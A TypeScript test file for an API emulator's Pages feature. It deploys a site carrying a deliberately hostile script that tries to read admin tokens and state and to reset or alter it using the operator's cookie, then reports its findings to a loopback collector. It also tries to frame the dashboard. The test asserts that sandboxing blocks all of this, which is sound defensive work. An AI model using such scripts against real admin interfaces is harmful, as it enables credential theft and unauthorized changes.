/**
 * A deployed Pages site cannot drive the admin API (issue 22, part 5), in a real browser (Debian's Chromium through
 * playwright-core). The sites are served on the emulator's own origin, under /pages/, like the dashboard. A site
 * deployed through the API carries a script that tries every way a page has to read the state (seed tokens and
 * passwords) and to change it (reset, replace the state, add a fault), with the operator's admin cookie in the
 * browser; it reports what it got to a second loopback server the test runs. It must get nothing, and the state
 * must be unchanged. Skipped, with a message, where no Chromium is installed (CHROMIUM_PATH, else /usr/bin/chromium).
 */
import { existsSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { getIDToken } from '@actions/core';
import { chromium, type Browser } from 'playwright-core';
import { idTokenRequestUrl } from '../../src/emulator/oidc.js';
import { makeZip } from '../support/archives.js';
import { startEmulator, type Emulator } from '../support/emulator.js';

const executablePath = process.env.CHROMIUM_PATH ?? '/usr/bin/chromium';
const haveChromium = existsSync(executablePath);
if (!haveChromium)
  console.warn(
    `Pages sandbox browser test skipped: no Chromium at ${executablePath} (apt-get install chromium, or set CHROMIUM_PATH)`,
  );
const browserIt = haveChromium ? it : it.skip;

const OCTOCAT = 'svc_pat_octocat';
const WORKFLOW = 'svc_workflow_webapp';
const ADMIN_TOKEN = 'emu_admin_sandbox_test';

/** Runs in the site's page: every attempt on the admin API, each answered by what the page could see. */
const HOSTILE = `
const attempt = async (name, run) => {
  try { report[name] = await run(); } catch (e) { report[name] = 'error: ' + e.name; }
};
const read = async (r) => r.type === 'opaque' ? 'opaque' : r.status + ' ' + (await r.text()).slice(0, 2000);
const report = {};
(async () => {
  await attempt('own file', async () => read(await fetch('data.json')));
  await attempt('read state with cookie', async () => read(await fetch('/_emulator/state', { credentials: 'include' })));
  await attempt('read state', async () => read(await fetch('/_emulator/state')));
  await attempt('read overview', async () => read(await fetch('/_emulator/overview', { credentials: 'include' })));
  await attempt('read dashboard', async () => read(await fetch('/_emulator/', { credentials: 'include' })));
  await attempt('read alerts', async () => read(await fetch('/_emulator/alerts', { credentials: 'include' })));
  await attempt('read versions', async () => read(await fetch('/_emulator/versions', { credentials: 'include' })));
  await attempt('read alert section', async () =>
    read(await fetch('/_emulator/sections/alerts', { credentials: 'include' })));
  await attempt('reset with header', async () => read(await fetch('/_emulator/reset', {
    method: 'POST', credentials: 'include', headers: { 'x-emulator-admin': '1' } })));
  await attempt('reset no-cors', async () => read(await fetch('/_emulator/reset', {
    method: 'POST', mode: 'no-cors', credentials: 'include' })));
  await attempt('fault no-cors', async () => read(await fetch('/_emulator/faults', {
    method: 'POST', mode: 'no-cors', credentials: 'include', headers: { 'content-type': 'text/plain' },
    body: JSON.stringify({ prefix: '/api/v3/meta', status: 418 }) })));
  await attempt('put state', async () => read(await fetch('/_emulator/state', {
    method: 'PUT', credentials: 'include', headers: { 'content-type': 'application/json', 'x-emulator-admin': '1' },
    body: '{}' })));
  await attempt('xhr state', () => new Promise((resolve) => {
    const x = new XMLHttpRequest();
    x.open('GET', '/_emulator/state');
    x.withCredentials = true;
    x.onload = () => resolve(x.status + ' ' + x.responseText.slice(0, 2000));
    x.onerror = () => resolve('error: xhr');
    x.send();
  }));
  await attempt('iframe state', () => new Promise((resolve) => {
    const f = document.createElement('iframe');
    f.src = '/_emulator/state';
    f.onload = () => { try { resolve(f.contentDocument.body.innerText.slice(0, 2000)); } catch (e) { resolve('error: ' + e.name); } };
    document.body.append(f);
  }));
  await attempt('storage', async () => { localStorage.setItem('k', 'v'); return 'same-origin storage'; });
  await attempt('cookie', async () => document.cookie);
  document.title = 'done';
  await fetch(REPORT_URL, { method: 'POST', mode: 'no-cors', body: JSON.stringify(report) });
})();
`;

let emu: Emulator;
let browser: Browser | undefined;
let collector: Server;
let collectorOrigin: string;
const reports: string[] = [];

beforeAll(async () => {
  emu = await startEmulator({ adminToken: ADMIN_TOKEN });
  collector = createServer((req, res) => {
    let body = '';
    req.on('data', (c: Buffer) => (body += c.toString()));
    req.on('end', () => {
      if (req.method === 'POST' && req.url === '/report') reports.push(body);
      if (req.url === '/frame.html') {
        res.writeHead(200, { 'content-type': 'text/html' });
        res.end(`<iframe id="f" src="${emu.origin}/_emulator/"></iframe>`);
        return;
      }
      res.writeHead(204).end();
    });
  });
  await new Promise<void>((r) => collector.listen(0, '127.0.0.1', r));
  collectorOrigin = `http://127.0.0.1:${(collector.address() as AddressInfo).port}`;
  if (haveChromium) browser = await chromium.launch({ executablePath, args: ['--no-sandbox'] });
});
afterAll(async () => {
  await browser?.close();
  await emu.close();
  await new Promise((r) => collector.close(r));
});

async function api(method: string, path: string, token: string, body?: unknown) {
  const res = await fetch(`${emu.apiUrl}${path}`, {
    method,
    headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
    body: body === undefined ? undefined : JSON.stringify(body),
  });
  const text = await res.text();
  return { status: res.status, body: text ? JSON.parse(text) : undefined };
}

/** getIDToken as the deploy step calls it, with the runner's variables pointing at the emulator. */
async function oidcToken(): Promise<string> {
  const saved = { ...process.env };
  const write = process.stdout.write;
  process.env.ACTIONS_ID_TOKEN_REQUEST_URL = idTokenRequestUrl(emu.ctx);
  process.env.ACTIONS_ID_TOKEN_REQUEST_TOKEN = WORKFLOW;
  process.stdout.write = (() => true) as typeof process.stdout.write;
  try {
    return await getIDToken();
  } finally {
    process.stdout.write = write;
    process.env = saved;
  }
}

/** A site deployed as the deploy step does it: artifact uploaded, deployment created with an OIDC token. */
async function deployHostileSite(): Promise<string> {
  const site = await api('POST', '/repos/acme/webapp/pages', OCTOCAT, { build_type: 'workflow' });
  expect(site.status).toBe(201);
  const zip = makeZip([
    {
      name: 'index.html',
      data: `<!doctype html><title>running</title><h1>innocent site</h1><script src="app.js"></script>`,
    },
    { name: 'app.js', data: HOSTILE.replace('REPORT_URL', JSON.stringify(`${collectorOrigin}/report`)) },
    { name: 'data.json', data: '{"site":"data"}' },
  ]);
  const stored = await fetch(`${emu.origin}/_artifacts/acme/webapp/site.zip`, {
    method: 'PUT',
    headers: { authorization: `Bearer ${WORKFLOW}`, 'content-type': 'application/octet-stream' },
    body: zip,
  });
  expect(stored.status).toBe(201);
  const { url } = (await stored.json()) as { url: string };
  const created = await api('POST', '/repos/acme/webapp/pages/deployment', WORKFLOW, {
    artifact_url: url,
    pages_build_version: 'b'.repeat(40),
    oidc_token: await oidcToken(),
  });
  expect(created.status).toBe(200);
  const end = Date.now() + 10_000;
  for (;;) {
    const status = (await api('GET', new URL(created.body.status_url).pathname.slice(7), WORKFLOW)).body
      .status;
    if (status === 'succeed') break;
    if (Date.now() > end) throw new Error(`deployment stuck in ${status}`);
    await new Promise((r) => setTimeout(r, 50));
  }
  return created.body.page_url as string;
}

/** Deployed once, by whichever test needs it first. */
let deployed: Promise<string> | undefined;
const hostileSite = () => (deployed ??= deployHostileSite());

const adminState = async () => {
  const res = await emu.admin('/state');
  expect(res.status).toBe(200);
  return res.text();
};

describe('a deployed Pages site', () => {
  it('is served sandboxed in an opaque origin, its public files readable by any origin', async () => {
    const pageUrl = await hostileSite();
    expect(pageUrl).toBe(`${emu.origin}/pages/acme/webapp/`);
    for (const path of ['', 'app.js', 'data.json', 'nope.html']) {
      const res = await fetch(`${pageUrl}${path}`);
      await res.arrayBuffer();
      const csp = res.headers.get('content-security-policy') ?? '';
      expect(csp).toMatch(/^sandbox /);
      expect(csp).toContain('allow-scripts');
      expect(csp).not.toContain('allow-same-origin');
      expect(csp).not.toContain('allow-popups-to-escape-sandbox');
    }
    expect((await fetch(`${pageUrl}data.json`)).headers.get('access-control-allow-origin')).toBe('*');
    const redirect = await fetch(`${emu.origin}/pages/acme/webapp`, { redirect: 'manual' });
    expect(redirect.headers.get('content-security-policy')).toMatch(/^sandbox /);
  });

  browserIt(
    'opened by the operator from the dashboard, reads nothing of the admin API and changes nothing',
    async () => {
      await hostileSite();
      // Something of the operator's that a reset would drop: a fault rule.
      const fault = await emu.admin('/faults', {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ prefix: '/api/v3/zen', status: 503 }),
      });
      expect(fault.status).toBe(201);
      const faultsBefore = await (await emu.admin('/faults')).text();
      const before = await adminState();
      expect(before).toContain(OCTOCAT);

      const context = await browser!.newContext();
      const page = await context.newPage();
      // The operator logs in to the dashboard (the admin cookie), and opens the site from its Pages table.
      await page.goto(`${emu.origin}/_emulator/?token=${ADMIN_TOKEN}`);
      expect(page.url()).toBe(`${emu.origin}/_emulator/`);
      expect((await context.cookies(`${emu.origin}/_emulator/`)).map((c) => c.name)).toContain(
        'emulator_admin',
      );
      const link = page.locator('#sites a', { hasText: '/pages/acme/webapp/' });
      await link.waitFor();
      await link.click();
      await page.waitForURL(`${emu.origin}/pages/acme/webapp/`);
      await page.waitForFunction("document.title === 'done'", undefined, { timeout: 20_000 });
      const end = Date.now() + 5_000;
      while (reports.length === 0 && Date.now() < end) await new Promise((r) => setTimeout(r, 50));
      expect(reports).toHaveLength(1);
      const report = JSON.parse(reports[0]) as Record<string, string>;

      // The site still works as a site: its script ran and read its own files.
      expect(report['own file']).toBe('200 {"site":"data"}');
      // Nothing of the admin API reached the page: no answer readable, no secret in anything it saw.
      for (const name of [
        'read state with cookie',
        'read state',
        'read overview',
        'read dashboard',
        'read alerts',
        'read versions',
        'read alert section',
        'reset with header',
        'put state',
        'xhr state',
      ]) {
        expect([name, report[name]]).toEqual([name, expect.stringMatching(/^error: /)]);
      }
      // Sent blind (a no-cors request needs no preflight): refused, and its answer not even opaque (CORP).
      expect(report['reset no-cors']).toMatch(/^(opaque|error: )/);
      expect(report['fault no-cors']).toMatch(/^(opaque|error: )/);
      expect(report['iframe state']).toMatch(/^error: /); // another origin's document: no contentDocument
      expect(report.storage).toMatch(/^error: /); // an opaque origin: no storage shared with the emulator's pages
      expect(report.cookie).toMatch(/^(error: .*)?$/);
      const seen = JSON.stringify(report);
      for (const secret of [OCTOCAT, WORKFLOW, ADMIN_TOKEN, 'svc_fgpat_mona', 'password'])
        expect(seen).not.toContain(secret);

      // And nothing changed: the state, the operator's fault rule, no fault added.
      expect(await adminState()).toBe(before);
      expect(await (await emu.admin('/faults')).text()).toBe(faultsBefore);
      await context.close();
    },
    60_000,
  );

  browserIt('cannot frame the dashboard, from another port of the host or from its own origin', async () => {
    const context = await browser!.newContext();
    const page = await context.newPage();
    await page.goto(`${emu.origin}/_emulator/?token=${ADMIN_TOKEN}`);
    const dashboard = () => page.waitForEvent('response', (r) => r.url() === `${emu.origin}/_emulator/`);
    const sectionsIn = async () => {
      const frames = page.frames().filter((f) => f !== page.mainFrame());
      expect(frames).toHaveLength(1);
      return frames.map((f) => f.locator('#sections').count());
    };

    // Another port of the same host is the same site: the cookie goes, but the browser says where it comes from.
    let answer = dashboard();
    await page.goto(`${collectorOrigin}/frame.html`);
    expect((await answer).status()).toBe(403);
    expect((await answer).headers()['x-frame-options']).toBe('DENY');
    for (const count of await sectionsIn()) expect(await count).toBe(0);

    // A page of the emulator's own origin (not one the emulator serves: faked in the browser): the dashboard is
    // answered, and its frame-ancestors keeps it out of the frame.
    await page.route(`${emu.origin}/framer.html`, (route) =>
      route.fulfill({ contentType: 'text/html', body: '<iframe src="/_emulator/"></iframe>' }),
    );
    answer = dashboard();
    await page.goto(`${emu.origin}/framer.html`);
    expect((await answer).status()).toBe(200);
    expect((await answer).headers()['content-security-policy']).toContain("frame-ancestors 'none'");
    for (const count of await sectionsIn()) expect(await count).toBe(0);
    await context.close();
  });
});
